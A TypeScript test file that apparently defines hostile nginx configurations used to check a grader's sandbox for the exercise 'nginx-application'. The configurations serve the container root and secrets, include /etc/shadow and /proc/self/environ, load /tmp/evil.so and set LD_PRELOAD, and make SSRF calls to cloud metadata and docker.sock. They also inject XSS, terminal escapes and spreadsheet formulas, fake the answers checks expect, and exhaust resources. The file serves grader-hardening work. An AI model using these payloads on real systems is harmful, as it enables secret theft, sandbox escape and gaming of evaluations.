import { filesAt, type Hostile, type Target } from './hostile.ts';
import { solutionOf } from './known.ts';

const path = 'web/nginx.conf';
const solution = solutionOf('nginx-application')[path] ?? '';
const file = filesAt(path);

/** Where in the solution something is added. */
interface Parts {
  main?: string;
  http?: string;
  server?: string;
  /** What the location of the application has, instead of passing requests on. */
  application?: string;
}

function configuration({ main = '', http = '', server = '', application }: Parts): string {
  const replaced =
    application === undefined ? solution : solution.replace('proxy_pass http://127.0.0.1:3000;', () => application);
  return `${main}\n${replaced}`
    .replace('http {', (line) => `${line}\n${http}`)
    .replace('listen 80 default_server;', (line) => `${line}\n${server}`);
}

const nginx = (name: string, tries: string, most: number, parts: Parts | ((target: Target) => Parts)): Hostile =>
  file(name, tries, most, (target) => configuration(typeof parts === 'function' ? parts(target) : parts));

/** Hostile submissions of the exercise `nginx-application`. */
export const hostileNginx: readonly Hostile[] = [
  nginx(
    'nginx-serves-root',
    'serve the whole container, and answer with secrets where the grader quotes answers',
    80,
    ({ secret }) => ({
      server: `autoindex on;
location /host/ { alias /; }
location /api/whoami { root /; try_files ${secret} /proc/1/root${secret} /run/secrets/mysql-app /proc/self/environ =404; }
location = /static/site.css { root /; try_files ${secret} /run/secrets/mysql-app =404; }`,
    }),
  ),
  nginx('nginx-answers-all', 'answer everything with what checks might like', 20, {
    application: `default_type application/json;
return 200 '{"clientAddress":"$remote_addr","scheme":"$visitor_scheme","messages":[{"body":"$args"}],"error":{"code":"not_found"}}';`,
    server: 'error_page 403 404 413 =200 /ok;',
  }),
  nginx('nginx-knows-visitors', 'say in the application’s place whom it was told of', 100, {
    server: `location = /api/whoami {
  default_type application/json;
  return 200 '{"clientAddress":"$remote_addr","scheme":"$visitor_scheme"}';
}`,
  }),
  nginx('nginx-loads', 'load programs', 0, {
    main: 'load_module /tmp/evil.so;\nload_module modules/ngx_http_perl_module.so;',
    http: "perl_modules /tmp; js_import /proc/self/fd/0; lua_package_path '/tmp/?.lua';",
  }),
  nginx('nginx-includes', 'have the checker quote files that it includes', 0, ({ secret }) => ({
    http: `include /run/secrets/mysql-app;\ninclude /proc/self/environ;\ninclude ${secret};\ninclude /etc/shadow;\ninclude /etc/passwd;`,
  })),
  nginx('nginx-asks-outside', 'pass every request on to the host, the internet and the engine', 100, (target) => ({
    http: 'resolver 8.8.8.8 127.0.0.11 valid=1s ipv6=off; resolver_timeout 1s; proxy_connect_timeout 1s;',
    server: `set $far example.com;
location /far { internal; proxy_pass http://$far/; }
location /engine { internal; proxy_pass http://unix:/var/run/docker.sock:/info; }
location /clouds { internal; proxy_pass http://169.254.169.254/latest/; }
${target.hosts.map((host, index) => `location /host${index} { internal; proxy_pass http://${host}:${target.port}/; }`).join('\n')}
mirror /far; mirror /engine; mirror /clouds;
${target.hosts.map((_, index) => `mirror /host${index};`).join('\n')}`,
  })),
  nginx('nginx-logs', 'write its logs where other things are, and without end', 100, ({ trace }) => ({
    main: 'error_log /proc/1/fd/1 debug;\nerror_log /run/service/nginx/log debug;\nerror_log /tmp/error debug;',
    http: `log_format much '$time_iso8601 $request $http_cookie ${'x'.repeat(900)} touch ${trace}';
access_log /run/full much; access_log /run/service/app/data much; access_log /proc/1/fd/2 much;`,
  })),
  nginx('nginx-process', 'be root, go into the background and have a thousand processes', 100, {
    main: 'user root;\nworker_rlimit_nofile 10000000;\nworker_rlimit_core 1g;\nworking_directory /proc/1/root;\nworker_priority -20;\nenv LD_PRELOAD=/tmp/evil.so;\nlock_file /run/service/app/down;',
  }),
  file(
    'nginx-background',
    'go into the background, where its supervisor starts it again and again',
    100,
    solution.replace('daemon off;', 'daemon on;').replace('worker_processes 1;', 'worker_processes 500;'),
  ),
  nginx('nginx-memory', 'ask for more memory and processes than there are', 100, {
    http: 'server_names_hash_max_size 100000000; proxy_cache_path /run/cache keys_zone=a:1500m; limit_req_zone $uri zone=b:1500m rate=1r/s; client_header_buffer_size 512m;',
  }),
  nginx('nginx-other-ports', 'answer at the ports of the application and of the monitoring clients', 100, {
    http: `server {
  listen 127.0.0.1:3000; listen 9464; listen 9100; listen 9113;
  default_type application/json;
  return 200 '{"clientAddress":"$http_x_real_ip","scheme":"$http_x_forwarded_proto","messages":[]}';
}`,
  }),
  nginx('nginx-escapes', 'carry escapes, pages and formulas into what is observed', 80, {
    server: `location = /api/whoami {
  default_type application/json;
  return 200 '{"clientAddress":"\u001b]0;owned\u0007\\\\u001b[2J<script>alert(1)</script>]]>","scheme":"=cmd|calc!A0\u202eevil"}';
}
location = /metrics { return 301 "<script>alert(1)</script>]]>=cmd()"; }`,
  }),
  nginx('nginx-quoted', 'carry them into what the checker says', 0, {
    http: `\u001b]0;owned\u0007\u001b[2J<script>alert(1)</script>]]><failure/> "=cmd|'/c calc'!A0 \u202eevil";`,
  }),
  nginx('nginx-loops', 'send every request round and round', 25, {
    application: 'rewrite ^ /again/$request_id last;',
    server: 'recursive_error_pages on; error_page 404 500 = /loop$request_uri; location /loop { return 404; }',
  }),
  nginx('nginx-drips', 'answer one byte a second', 60, {
    server: 'limit_rate 1; postpone_output 0; lingering_time 1h;',
  }),
];
